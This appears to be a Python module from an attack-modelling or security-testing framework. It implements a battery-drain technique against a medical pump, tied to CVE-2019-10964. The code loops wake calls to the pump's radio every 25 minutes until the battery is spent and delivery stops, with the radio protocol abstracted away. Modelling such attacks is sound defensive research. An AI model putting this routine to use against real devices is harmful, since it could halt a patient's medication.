"""Keep the radio awake: ask the pump again and again until its battery is spent."""

from __future__ import annotations

from banting.attacks.conversation import ask, carry_out
from banting.attacks.sources import NO_ACCESS_CONTROL, WAKE_UP
from banting.errors import TechniqueFailed
from banting.interfaces import Grip, Program, Wait
from banting.schema.facts import Fact, Rule, goal_fact, position_fact
from banting.schema.intents import Heard
from banting.schema.question import Goal, Position
from banting.schema.verdict import TechniqueShown

__all__ = ["KEEP_AWAKE", "KeepRadioAwake"]

_AWAKE_MINUTES = 30
_EVERY_MS = 25 * 60 * 1000  # a call before the last one runs out


class KeepRadioAwake:
    """Power messages without end."""

    shown = TechniqueShown(
        id="keep-radio-awake",
        title="Keep the radio awake",
        what="a transmitter asks the pump to keep its radio on, call after call, and the battery "
        "empties in days instead of weeks",
        stop_it="change the battery when the pump says it is low; it stops only if that is ignored",
        cwe=("CWE-400",),
        cve=("CVE-2019-10964",),
        emb3d=("TID-404",),
        attack_ics=("T0814",),
        sources=(WAKE_UP, NO_ACCESS_CONTROL),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="drain-battery",
            technique="keep-radio-awake",
            needs=frozenset(
                {
                    position_fact(Position.RADIO),
                    Fact("knows.pump-serial"),
                    Fact("pump.answers-serial"),
                    Fact("assume.low-battery-ignored"),
                }
            ),
            gives=goal_fact(Goal.G3),
            says="keep the pump's radio awake until the battery is spent and delivery stops",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Call the pump as long as the day lasts."""
        del rule
        serial = grip.knows("pump-serial")
        calls = 0
        while grip.now_ms + _EVERY_MS < grip.until_ms:
            call, *power = grip.dialect.wake(serial, _AWAKE_MINUTES)
            heard, _ = yield from ask(grip, "radio", call)
            if heard is Heard.OTHER:
                break
            yield from carry_out(grip, "radio", tuple(power))
            calls += 1
            yield Wait(until_ms=grip.now_ms + _EVERY_MS)
        if not calls:
            raise TechniqueFailed("the pump never answered a call")
        return f"kept the radio awake with {calls} calls, as long as the pump answered"


KEEP_AWAKE = KeepRadioAwake()
